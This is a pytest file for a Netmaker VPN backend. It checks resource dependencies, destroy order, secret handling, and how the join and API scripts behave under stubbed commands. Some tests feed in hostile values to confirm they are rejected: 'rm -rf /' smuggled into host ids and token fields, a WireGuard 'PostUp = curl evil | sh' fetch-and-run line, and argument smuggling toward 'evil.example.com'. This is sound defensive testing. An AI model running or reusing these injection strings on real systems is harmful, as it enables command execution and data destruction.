"""The Netmaker backend: the graph above the VPN does not change, the steps are ordered for
destroy, no key or token leaks, and its scripts behave under stubs."""

from __future__ import annotations

import base64
import json
import re
import time
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.helpers import deps_closure, evaluate_config, stack_config
from tests.support.stubs import StubHost
from tools.render.evaluate import Evaluation, Secret
from tools.render.write import reveal, split_script, write_all

VPN_LAYER = re.compile(r"^mesh(-|$)")


@pytest.fixture(scope="module")
def wireguard() -> Evaluation:
    return evaluate_config(stack_config("dev"))


@pytest.fixture(scope="module")
def netmaker() -> Evaluation:
    return evaluate_config(stack_config("netmaker"))


def above_vpn(ev: Evaluation) -> dict[str, Any]:
    """Inputs of every resource above the VPN layer, with the VPN's interface name abstracted."""
    out = {}
    for r in ev.resources:
        if VPN_LAYER.match(r.name):
            continue
        text = json.dumps(reveal(r.inputs), sort_keys=True)
        out[r.name] = text.replace("VPN_IFACE=netmaker", "VPN_IFACE=<vpn>").replace("VPN_IFACE=wg0", "VPN_IFACE=<vpn>")
    return out


def test_backends_swap_without_any_change_above_the_vpn(wireguard: Evaluation, netmaker: Evaluation) -> None:
    a, b = above_vpn(wireguard), above_vpn(netmaker)
    assert a.keys() == b.keys()
    assert [name for name in a if a[name] != b[name]] == []
    install = split_script(netmaker.by_name("cluster-ws-1-microk8s").inputs["create"])[1]
    assert install["VPN_IFACE"] == "netmaker" and install["NODE_IP"] == "100.64.1.1" and install["CNI_MTU"] == "1330"


def test_each_host_joins_in_parallel_and_the_cluster_waits_for_its_address(netmaker: Evaluation) -> None:
    joins = [r for r in netmaker.resources if r.name.startswith("mesh-") and r.name.endswith("-join")]
    assert len(joins) == 5
    urns = {r.urn for r in joins}
    for join in joins:
        assert not deps_closure(netmaker, join.urn) & urns  # no join waits on another
        assert netmaker.by_name("mesh-enrollment").urn in join.dependencies
    closure = deps_closure(netmaker, netmaker.by_name("cluster-ws-1-microk8s").urn)
    assert netmaker.by_name("mesh-ws-1-address").urn in closure
    _, params = split_script(netmaker.by_name("mesh-ws-1-address").inputs["create"])
    assert params == {"ACTION": "address", "NETWORK": "hybrid-ai", "HOST_NAME": "ws-1", "ADDRESS": "100.64.1.1/16"}
    _, relay = split_script(netmaker.by_name("mesh-relay").inputs["create"])
    assert relay["RELAY_HOST"] == "vpn-hub" and relay["RELAYED_HOSTS"] == "ws-1 ws-2"  # the NAT'd office


def test_destroy_order_leave_revoke_then_server(netmaker: Evaluation) -> None:
    server, network, key = (netmaker.by_name(f"mesh-{n}") for n in ("server", "network", "enrollment"))
    join = netmaker.by_name("mesh-ws-1-join")
    # Dependents are deleted first: the host leaves, then the key is revoked, the network and the server go last.
    assert key.urn in join.dependencies and network.urn in key.dependencies and server.urn in network.dependencies
    assert "netclient-leave.sh" in join.inputs["delete"]
    assert split_script(key.inputs["delete"])[1]["ACTION"] == "enrollment-revoke"
    assert "netmaker-server-remove.sh" in server.inputs["delete"]


def test_master_key_and_token_stay_secret(netmaker: Evaluation, tmp_path: Path) -> None:
    for r in netmaker.resources:
        if r.name.startswith("mesh-") and r.type == "command:remote:Command":
            assert isinstance(r.inputs["stdin"], Secret), r.name
            assert r.inputs["logging"] == "none", r.name
    write_all(netmaker, tmp_path)
    secrets = {v for v in netmaker.secret_values if len(v) >= 16}
    assert any("ENROLLMENT" in v for v in secrets)
    for path in (p for p in tmp_path.rglob("*") if p.is_file()):
        text = path.read_text()
        assert not [s for s in secrets if s in text], path


# --- Scripts under stubs ------------------------------------------------------------------

API_STUB = """
# A tiny Netmaker API: state in $STATE/nm/*.json; prints what the real API would.
method=GET path= data=
while [ $# -gt 0 ]; do
  case $1 in -X) method=$2; shift;; --data) data=$2; shift;; http*) path=${1#http://127.0.0.1:8081};; esac; shift
done
grep -q "Authorization: Bearer MASTERKEY-0123456789abcdef0123456789" "$(cat "$STATE/header-file")" || { echo unauthorized >&2; exit 22; }
mkdir -p "$STATE/nm"
# v0.90.0 controllers/enrollmentkeys.go (createEnrollmentKey): tags of 3-32 characters, none that
# any key (spent ones too) already has; logic/enrollmentkey.go (CreateEnrollmentKey): uses > 0
# makes a Uses key and drops the expiration, else an expiration makes a TimeExpiration key;
# models/enrollment_key.go (Validate: IsValid). Values are 32 base32 characters.
enroll_create() {
  local keys value key
  keys=$(cat "$STATE/nm/keys" 2>/dev/null || echo '[]')
  jq -e 'all(.tags[]; length >= 3 and length <= 32)' <<< "$data" >/dev/null || { echo "name length must be between 3 and 32" >&2; exit 22; }
  jq -e -n --argjson keys "$keys" --argjson b "$data" '[$keys[].tags[]?] as $have | any($b.tags[]; . as $t | $have | index($t))' >/dev/null \
    && { echo "key names must be unique" >&2; exit 22; }
  echo $(( $(cat "$STATE/nm/created" 2>/dev/null || echo 0) + 1 )) > "$STATE/nm/created"
  value=$(printf 'KEY%029d' "$(cat "$STATE/nm/created")")
  key=$(jq -c -n --argjson b "$data" --arg v "$value" --arg tok "${TOKEN:-}" --arg srv api.nm.example.com '
    {value: $v, networks: ($b.networks // []), tags: ($b.tags // []), unlimited: ($b.unlimited // false),
     uses_remaining: 0, expiration: "0001-01-01T00:00:00Z", type: 0}
    | if ($b.uses_remaining // 0) > 0 then .uses_remaining = $b.uses_remaining | .type = 2
      elif ($b.expiration // 0) > 0 then .expiration = ($b.expiration | todate) | .type = 1
      elif .unlimited then .type = 3 else . end
    | .token = (if $tok != "" then $tok else ({server: $srv, value: $v} | tojson | @base64) end)')
  jq -e --argjson now "$(date +%s)" '.uses_remaining > 0 or (.expiration != "0001-01-01T00:00:00Z" and (.expiration | fromdate) > $now)
    or (.type != 0 and .unlimited)' <<< "$key" >/dev/null || { echo "enrollment key is not valid" >&2; exit 22; }
  jq -c --argjson k "$key" '. + [$k]' <<< "$keys" > "$STATE/nm/keys"
  printf '%s' "$key"
}
case "$method $path" in
  "GET /api/networks/"*) [ -e "$STATE/nm/network" ] || exit 22; cat "$STATE/nm/network";;
  "POST /api/networks") printf '%s' "$data" > "$STATE/nm/network";;
  "DELETE /api/networks/"*) rm -f "$STATE/nm/network";;
  "GET /api/v1/enrollment-keys") cat "$STATE/nm/keys" 2>/dev/null || echo '[]';;
  "POST /api/v1/enrollment-keys") enroll_create;;
  "DELETE /api/v1/enrollment-keys/"*) key=${path##*/}
    jq -e --arg v "$key" 'any(.[]; .value == $v)' "$STATE/nm/keys" >/dev/null 2>&1 || { echo "no enrollmentkey found" >&2; exit 22; }
    jq -c --arg v "$key" 'map(select(.value != $v))' "$STATE/nm/keys" > "$STATE/nm/keys.new"; mv "$STATE/nm/keys.new" "$STATE/nm/keys";;
  "GET /api/hosts") cat "$STATE/nm/hosts" 2>/dev/null || echo "[{\\"name\\":\\"ws-1\\",\\"id\\":\\"$H1\\"},{\\"name\\":\\"vpn-hub\\",\\"id\\":\\"$H0\\"}]";;
  "GET /api/nodes/hybrid-ai") echo "[{\\"hostid\\":\\"$H1\\",\\"id\\":\\"$N1\\"},{\\"hostid\\":\\"$H0\\",\\"id\\":\\"$N0\\"}]";;
  "GET /api/nodes/hybrid-ai/$N1") cat "$STATE/nm/n1" 2>/dev/null || echo "{\\"id\\":\\"$N1\\",\\"address\\":\\"100.64.7.7/16\\"}";;
  "PUT /api/nodes/hybrid-ai/$N1") printf '%s' "$data" > "$STATE/nm/n1";;
  "POST /api/nodes/hybrid-ai/$N0/createrelay") printf '%s' "$data" > "$STATE/nm/relay";;
  *) echo "unexpected $method $path" >&2; exit 22;;
esac
"""


# Netmaker's shapes at v0.90.0: host and node ids are UUIDs (models/host.go, models/node.go);
# an enrollment token is base64 of {"server", "value"} (logic/enrollmentkey.go, Tokenize).
IDS = {"H0": "0b0e6a52-0000-4000-8000-000000000000", "H1": "1b0e6a52-0000-4000-8000-000000000001",
       "N0": "2b0e6a52-0000-4000-8000-000000000000", "N1": "3b0e6a52-0000-4000-8000-000000000001"}


def token_of(value: str, server: str = "api.nm.example.com") -> str:
    return base64.b64encode(json.dumps({"server": server, "value": value}).encode()).decode()


GOOD_TOKEN = token_of("TOKEN-SECRET-1")


def api_host(tmp_path: Path, **env: str) -> StubHost:
    # curl gets the header file as "-H @file": the stub records where it is to check the key.
    curl = 'for a in "$@"; do case $a in @*) echo "${a#@}" > "$STATE/header-file";; esac; done\n' + API_STUB
    return StubHost(tmp_path, stubs={"curl": curl}, env={**IDS, "GOOD_TOKEN": GOOD_TOKEN, **env})


MASTER = "MASTERKEY-0123456789abcdef0123456789\n"


def test_network_is_idempotent_and_no_master_key_or_token_on_a_command_line(tmp_path: Path) -> None:
    h = api_host(tmp_path)
    first = h.run("netmaker-api.sh", stdin=MASTER, ACTION="network", NETWORK="hybrid-ai", ADDRESS_RANGE="100.64.0.0/16", MTU="1380")
    assert first.returncode == 0, first.stderr
    assert json.loads((h.state / "nm" / "network").read_text()) == {"netid": "hybrid-ai", "addressrange": "100.64.0.0/16", "defaultmtu": 1380}
    again = h.run("netmaker-api.sh", stdin=MASTER, ACTION="network", NETWORK="hybrid-ai", ADDRESS_RANGE="100.64.0.0/16", MTU="1380")
    assert again.stdout.strip() == "changed=none"
    assert [c for c in h.calls() if "POST" in c] == []
    key = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment", NETWORK="hybrid-ai", TAG="hybrid-ai-dev", TTL_S="86400")
    assert key.returncode == 0 and key.stdout.strip() == token_of_key(stored_keys(h)[0])
    assert not [c for c in h.calls() if "MASTERKEY" in c or key.stdout.strip() in c]
    revoke = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment-revoke", NETWORK="hybrid-ai", TAG="hybrid-ai-dev")
    assert revoke.returncode == 0 and stored_keys(h) == []


def stored_keys(h: StubHost) -> list[dict[str, Any]]:
    keys: list[dict[str, Any]] = json.loads((h.state / "nm" / "keys").read_text())
    return keys


def token_of_key(key: dict[str, Any]) -> str:
    return base64.b64encode(json.dumps({"server": "api.nm.example.com", "value": key["value"]}, separators=(",", ":")).encode()).decode()


def key_is_valid(key: dict[str, Any], at: float) -> bool:
    """Netmaker v0.90.0 models/enrollment_key.go (IsValid), which registration checks
    (TryToUseEnrollmentKey) once a key has no uses to take."""
    expires = key["expiration"] != "0001-01-01T00:00:00Z" and at < datetime.fromisoformat(key["expiration"]).timestamp()
    return bool(key["uses_remaining"] > 0 or expires or (key["type"] != 0 and key["unlimited"]))


def test_the_enrollment_key_expires_after_its_ttl(tmp_path: Path) -> None:
    h = api_host(tmp_path)
    before = time.time()
    key = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment", NETWORK="hybrid-ai", TAG="hybrid-ai-dev", TTL_S="3600",
                HOSTS="vpn-hub ws-1")
    assert key.returncode == 0, key.stderr
    (created,) = stored_keys(h)
    assert (created["type"], created["uses_remaining"], created["unlimited"]) == (1, 0, False)  # TimeExpiration
    assert key_is_valid(created, before + 3500) and not key_is_valid(created, time.time() + 3601)


def test_each_key_gets_its_own_tag_so_a_host_added_later_still_enrolls(tmp_path: Path) -> None:
    h = api_host(tmp_path)
    # A spent key of this stack under the plain tag (what earlier runs left), and another stack's key.
    other = {"value": "OTHER" + "A" * 27, "tags": ["hybrid-ai-dev2-0123abcd"], "uses_remaining": 0, "type": 1,
             "unlimited": False, "expiration": "2099-01-01T00:00:00Z", "networks": ["hybrid-ai"]}
    spent = {**other, "value": "SPENT" + "A" * 27, "tags": ["hybrid-ai-dev"], "type": 2, "expiration": "0001-01-01T00:00:00Z"}
    (h.state / "nm").mkdir()
    (h.state / "nm" / "keys").write_text(json.dumps([spent, other]))
    tags = []
    for hosts in ("vpn-hub ws-1", "vpn-hub ws-1 ws-9"):  # the first deployment, then a host added
        key = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment", NETWORK="hybrid-ai", TAG="hybrid-ai-dev", TTL_S="3600",
                    HOSTS=hosts)
        assert key.returncode == 0, key.stderr
        ours = [k for k in stored_keys(h) if k["value"] != other["value"]]
        assert len(ours) == 1 and re.fullmatch(r"hybrid-ai-dev-[0-9a-f]{8}", ours[0]["tags"][0])
        assert key.stdout.strip() == token_of_key(ours[0])
        tags.append(ours[0]["tags"][0])
    assert tags[0] != tags[1]
    assert h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment-revoke", NETWORK="hybrid-ai", TAG="hybrid-ai-dev").returncode == 0
    assert stored_keys(h) == [other]  # another stack's key is not ours to revoke


def test_the_key_is_revoked_once_every_host_has_joined_and_renewed_with_the_host_set(netmaker: Evaluation) -> None:
    key, revoke = netmaker.by_name("mesh-enrollment"), netmaker.by_name("mesh-enrollment-revoke")
    joins = [r for r in netmaker.resources if r.name.startswith("mesh-") and r.name.endswith("-join")]
    assert joins and all(j.urn in deps_closure(netmaker, revoke.urn) for j in joins)
    key_params, revoke_params = split_script(key.inputs["create"])[1], split_script(revoke.inputs["create"])[1]
    assert key_params["HOSTS"] == "interface receipt vpn-hub ws-1 ws-2" and key_params["TTL_S"] == "86400"
    assert revoke_params == {**key_params, "ACTION": "enrollment-revoke"}  # runs again after each new key
    assert "USES" not in key_params and len(key_params["TAG"]) + 9 <= 32
    # Nothing waits for the revocation: the plan's depth does not grow.
    assert not [r.name for r in netmaker.resources if revoke.urn in r.dependencies]


def test_address_and_relay(tmp_path: Path) -> None:
    h = api_host(tmp_path)
    result = h.run("netmaker-api.sh", stdin=MASTER, ACTION="address", NETWORK="hybrid-ai", HOST_NAME="ws-1", ADDRESS="100.64.1.1/16")
    assert result.returncode == 0, result.stderr
    assert json.loads((h.state / "nm" / "n1").read_text())["address"] == "100.64.1.1/16"
    again = h.run("netmaker-api.sh", stdin=MASTER, ACTION="address", NETWORK="hybrid-ai", HOST_NAME="ws-1", ADDRESS="100.64.1.1/16")
    assert again.stdout.strip().endswith("changed=none")
    missing = h.run("netmaker-api.sh", stdin=MASTER, ACTION="address", NETWORK="hybrid-ai", HOST_NAME="ws-9", ADDRESS="100.64.1.9/16")
    assert missing.returncode == 1 and "host ws-9 is not registered with Netmaker" in missing.stderr
    relay = h.run("netmaker-api.sh", stdin=MASTER, ACTION="relay", NETWORK="hybrid-ai", RELAY_HOST="vpn-hub", RELAYED_HOSTS="ws-1")
    assert relay.returncode == 0, relay.stderr
    # models.RelayRequest at v0.90.0: {nodeid, netid, relayaddrs} (json:"relayaddrs").
    assert json.loads((h.state / "nm" / "relay").read_text()) == {"netid": "hybrid-ai", "nodeid": IDS["N0"], "relayaddrs": [IDS["N1"]]}


def test_wrong_master_key_fails_without_echoing_it(tmp_path: Path) -> None:
    h = api_host(tmp_path)
    result = h.run("netmaker-api.sh", stdin="WRONG-KEY-SECRETISH\n", ACTION="network", NETWORK="hybrid-ai", ADDRESS_RANGE="100.64.0.0/16")
    assert result.returncode != 0 and "SECRETISH" not in result.stdout + result.stderr


# netclient v0.90.0: `list` prints JSON (functions/list.go); `join -t` exits 0 even when the
# registration fails (cmd/join.go logs "registration failed" and returns).
NETCLIENT = """
case $1 in
  list) printf '[\\n {\\n  "network": "%s",\\n  "connected": true\\n }\\n]\\n' $(cat "$STATE/netclient-networks" 2>/dev/null) | grep -v '""' || echo '[]';;
  join) [ -e "$STATE/join-sleep" ] && sleep "$(cat "$STATE/join-sleep")"
        [ -e "$STATE/registration-fails" ] && { echo "registration failed"; exit 0; }
        echo hybrid-ai > "$STATE/netclient-networks"; echo "    inet 100.64.1.1/16 scope global netmaker" > "$STATE/netmaker-addr";;
  leave) rm -f "$STATE/netclient-networks";;
esac"""


def test_netclient_joins_once_and_leaves(tmp_path: Path) -> None:
    stubs = {
        "netclient.pkg": NETCLIENT,  # what apt installs as netclient
        "apt-get": 'case "$*" in *install*) cp "$(dirname "$0")/netclient.pkg" "$(dirname "$0")/netclient";; esac',
        "ip": 'cat "$STATE/netmaker-addr" 2>/dev/null', "gpg": "exit 0",
        "curl": 'for a in "$@"; do [ "${prev:-}" = -o ] && echo key > "$a"; prev=$a; done',
    }
    h = StubHost(tmp_path, stubs=stubs)
    params = {"HOST_NAME": "ws-1", "NETWORK": "hybrid-ai", "NETCLIENT_VERSION": "v0.90.0",
              "KEYRING": str(tmp_path / "k.gpg"), "SOURCES": str(tmp_path / "nm.list")}
    first = h.run("netclient-join.sh", stdin=GOOD_TOKEN + "\n", **params)
    assert first.returncode == 0, first.stderr
    assert "apt-get -o DPkg::Lock::Timeout=120 install -y -q netclient=0.90.0*" in h.calls()
    assert "curl -fsSL -o" in "\n".join(h.calls())  # the repository key, through the stub
    assert f"netclient join -t {GOOD_TOKEN}" in h.calls()
    assert GOOD_TOKEN not in first.stdout + first.stderr
    again = h.run("netclient-join.sh", stdin=GOOD_TOKEN + "\n", **params)
    assert again.stdout.strip() == "changed=none" and not [c for c in h.calls() if c.startswith(("apt-get", "netclient join"))]
    assert h.run("netclient-leave.sh", NETWORK="hybrid-ai").returncode == 0
    assert "netclient leave -n hybrid-ai" in h.calls()


def test_server_refuses_a_small_hub(tmp_path: Path) -> None:
    h = StubHost(tmp_path)
    result = h.run("netmaker-server.sh", stdin=MASTER, NM_VERSION="v0.90.0", NM_DOMAIN="nm.example.com", PUBLIC_IP="203.0.113.10",
                   MIN_MEMORY_MB="100000000", NM_DIR=str(tmp_path / "nm"))
    assert result.returncode == 1
    assert "the Netmaker server needs at least 100000000 MB: use a bigger hub" in result.stderr
    assert h.state_changes() == []


def test_server_writes_its_config_once_with_the_key_only_in_a_private_file(tmp_path: Path) -> None:
    docker = 'case "$*" in *"ps -q"*) cat "$STATE/running" 2>/dev/null;; *"up -d"*) echo id > "$STATE/running";; esac; exit 0'
    h = StubHost(tmp_path, stubs={"docker": docker})
    for pkg in ("docker.io", "docker-compose-v2", "jq", "curl"):
        (h.state / "installed" / pkg).touch()
    params = {"NM_VERSION": "v0.90.0", "NM_DOMAIN": "nm.example.com", "PUBLIC_IP": "203.0.113.10", "MIN_MEMORY_MB": "1",
              "NM_DIR": str(tmp_path / "nm")}
    first = h.run("netmaker-server.sh", stdin=MASTER, **params)
    assert first.returncode == 0, first.stderr
    env = tmp_path / "nm" / "netmaker.env"
    assert env.stat().st_mode & 0o777 == 0o600 and "MASTER_KEY=MASTERKEY-" in env.read_text()
    assert "image: gravitl/netmaker:v0.90.0" in (tmp_path / "nm" / "docker-compose.yml").read_text()
    assert not [c for c in h.calls() if "MASTERKEY" in c]
    again = h.run("netmaker-server.sh", stdin=MASTER, **params)
    assert again.stdout.strip() == "changed=none"
    assert not [c for c in h.calls() if "up -d" in c]


# --- Upstream's broker, relay and token shapes; strict parsing --------------------------

def run_server(tmp_path: Path) -> tuple[StubHost, Path]:
    docker = 'case "$*" in *"ps -q"*) cat "$STATE/running" 2>/dev/null;; *"up -d"*) echo id > "$STATE/running";; esac; exit 0'
    h = StubHost(tmp_path, stubs={"docker": docker})
    for pkg in ("docker.io", "docker-compose-v2", "jq", "curl"):
        (h.state / "installed" / pkg).touch()
    nm = tmp_path / "nm"
    result = h.run("netmaker-server.sh", stdin=MASTER, NM_VERSION="v0.90.0", NM_DOMAIN="nm.example.com",
                   PUBLIC_IP="203.0.113.10", MIN_MEMORY_MB="1", NM_DIR=str(nm))
    assert result.returncode == 0, result.stderr
    return h, nm


def test_server_runs_mosquitto_the_way_netmakers_compose_does(tmp_path: Path) -> None:
    # gravitl/netmaker v0.90.0: compose/docker-compose.yml mounts docker/mosquitto.conf (websockets
    # listeners 8883 and 1883, no anonymous access, password_file) and runs docker/wait.sh, which
    # builds the password file from MQ_USERNAME/MQ_PASSWORD; scripts/netmaker.default.env sets
    # SERVER_BROKER_ENDPOINT=ws://mq:1883 for the server inside compose.
    _, nm = run_server(tmp_path)
    compose = yaml.safe_load((nm / "docker-compose.yml").read_text())
    mq = compose["services"]["mq"]
    assert mq["command"] == ["/mosquitto/config/mq-start.sh"] and mq["env_file"] == "./mq.env"
    assert {"./mosquitto.conf:/mosquitto/config/mosquitto.conf:ro", "./mq-start.sh:/mosquitto/config/mq-start.sh:ro"} <= set(mq["volumes"])
    conf = (nm / "mosquitto.conf").read_text().split("\n")
    for port in ("8883", "1883"):
        i = conf.index(f"listener {port}")
        assert conf[i + 1: i + 3] == ["protocol websockets", "allow_anonymous false"]
    assert "password_file /mosquitto/password.txt" in conf
    start = (nm / "mq-start.sh").read_text()
    assert "mosquitto_passwd -U /mosquitto/password.txt" in start and "exec /usr/sbin/mosquitto -c /mosquitto/config/mosquitto.conf" in start
    assert (nm / "mq-start.sh").stat().st_mode & 0o111
    env = dict(line.split("=", 1) for line in (nm / "netmaker.env").read_text().splitlines())
    mq_env = dict(line.split("=", 1) for line in (nm / "mq.env").read_text().splitlines())
    assert env["SERVER_BROKER_ENDPOINT"] == "ws://mq:1883" and env["BROKER_ENDPOINT"] == "wss://broker.nm.example.com"
    assert mq_env == {"MQ_USERNAME": env["MQ_USERNAME"], "MQ_PASSWORD": env["MQ_PASSWORD"]}  # not the master key
    assert "reverse_proxy mq:8883" in (nm / "Caddyfile").read_text()


def test_a_host_registered_under_anothers_name_or_a_malformed_id_fails_the_step(tmp_path: Path) -> None:
    h = api_host(tmp_path)
    (h.state / "nm").mkdir()
    hub = {"name": "vpn-hub", "id": IDS["H0"]}
    (h.state / "nm" / "hosts").write_text(json.dumps([hub, {"name": "ws-1", "id": IDS["H1"]}, {"name": "ws-1", "id": IDS["N1"]}]))
    twice = h.run("netmaker-api.sh", stdin=MASTER, ACTION="relay", NETWORK="hybrid-ai", RELAY_HOST="vpn-hub", RELAYED_HOSTS="ws-1")
    assert twice.returncode == 1 and "host ws-1: Netmaker has several" in twice.stderr
    assert not (h.state / "nm" / "relay").exists()
    (h.state / "nm" / "hosts").write_text(json.dumps([hub, {"name": "ws-1", "id": "h1; rm -rf /"}]))
    bad = h.run("netmaker-api.sh", stdin=MASTER, ACTION="address", NETWORK="hybrid-ai", HOST_NAME="ws-1", ADDRESS="100.64.1.1/16")
    assert bad.returncode == 1 and "host ws-1: Netmaker returned a malformed id" in bad.stderr
    assert not (h.state / "nm" / "n1").exists()


@pytest.mark.parametrize("token", ["[Interface]\\nPostUp = touch /tmp/pwned", token_of("v", server="x; rm -rf /"),
                                   base64.b64encode(b'{"server": "a", "value": "b", "extra": 1}').decode(), "not base64!"])
def test_a_malformed_enrollment_token_is_not_passed_on(tmp_path: Path, token: str) -> None:
    h = api_host(tmp_path, TOKEN=token)
    result = h.run("netmaker-api.sh", stdin=MASTER, ACTION="enrollment", NETWORK="hybrid-ai", TAG="t-1", USES="3", TTL_S="60")
    assert result.returncode == 1 and result.stdout == ""
    assert "malformed enrollment token" in result.stderr and token not in result.stderr


def test_the_program_parses_the_hubs_token_strictly_and_names_the_step() -> None:
    from components.vpn.netmaker import enrollment_token
    assert enrollment_token(GOOD_TOKEN + "\n", "step") == GOOD_TOKEN
    hostile = "[Interface]\nPostUp = curl evil | sh\n" + GOOD_TOKEN
    for out in (hostile, "", GOOD_TOKEN + " " + GOOD_TOKEN, token_of("v" * 200), "A" * 10_000):
        with pytest.raises(ValueError, match=r"^mesh-enrollment \(on vpn-hub\): printed something") as err:
            enrollment_token(out, "mesh-enrollment (on vpn-hub)")
        assert "PostUp" not in str(err.value)
    with pytest.raises(Exception, match=r"mesh-enrollment \(on vpn-hub\)"):
        evaluate_config(stack_config("netmaker"), command_stdout={"mesh-enrollment": hostile})


def join_params(tmp_path: Path) -> dict[str, str]:
    return {"HOST_NAME": "ws-1", "NETWORK": "hybrid-ai", "NETCLIENT_VERSION": "v0.90.0",
            "KEYRING": str(tmp_path / "k.gpg"), "SOURCES": str(tmp_path / "nm.list")}


def netclient_host(tmp_path: Path) -> StubHost:
    h = StubHost(tmp_path, stubs={"netclient": NETCLIENT, "ip": 'cat "$STATE/netmaker-addr" 2>/dev/null'})
    return h


def test_a_failed_registration_fails_the_join_although_netclient_exits_0(tmp_path: Path) -> None:
    h = netclient_host(tmp_path)
    (h.state / "registration-fails").touch()
    result = h.run("netclient-join.sh", stdin=GOOD_TOKEN + "\n", **join_params(tmp_path))
    assert result.returncode == 1 and "netclient could not join hybrid-ai" in result.stderr
    assert len([c for c in h.calls() if c.startswith("netclient join")]) == 3  # bounded retries
    assert GOOD_TOKEN not in result.stderr


def test_a_token_that_is_not_base64_never_reaches_a_command_line(tmp_path: Path) -> None:
    h = netclient_host(tmp_path)
    result = h.run("netclient-join.sh", stdin="-t x --server evil.example.com\n", **join_params(tmp_path))
    assert result.returncode == 1 and "not base64" in result.stderr
    assert not [c for c in h.calls() if c.startswith("netclient join")]


def test_the_token_is_in_ps_only_as_netclients_own_argument_while_it_runs(tmp_path: Path) -> None:
    # netclient v0.90.0 takes the token only as `join -t` (cmd/join.go: no env, file or stdin):
    # it is visible for that one call, and in no other process (bash, sudo, retries, logs).
    import subprocess
    import time

    from components.kit.shell import compose
    h = netclient_host(tmp_path)
    h.bin.joinpath("netclient").write_text(h.bin.joinpath("netclient").read_text().replace(
        'sleep "$(cat "$STATE/join-sleep")"', '/bin/sleep "$(cat "$STATE/join-sleep")"'))
    (h.state / "join-sleep").write_text("1")
    env = {"PATH": f"{h.bin}:/usr/bin:/bin", "STATE": str(h.state), "HOME": str(tmp_path)}
    proc = subprocess.Popen(["bash", "-c", compose("netclient-join.sh", join_params(tmp_path)), "netclient-join.sh"],
                            env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdin is not None
    proc.stdin.write(GOOD_TOKEN + "\n")
    proc.stdin.close()
    seen: set[str] = set()
    while proc.poll() is None:
        ps = subprocess.run(["ps", "-eww", "-o", "args"], capture_output=True, text=True).stdout
        seen |= {line for line in ps.splitlines() if GOOD_TOKEN in line}
        time.sleep(0.02)
    assert proc.wait() == 0, proc.stderr.read() if proc.stderr else ""
    assert seen, "the sampler never saw netclient run"
    assert all(line.endswith(f"/netclient join -t {GOOD_TOKEN}") for line in seen), seen
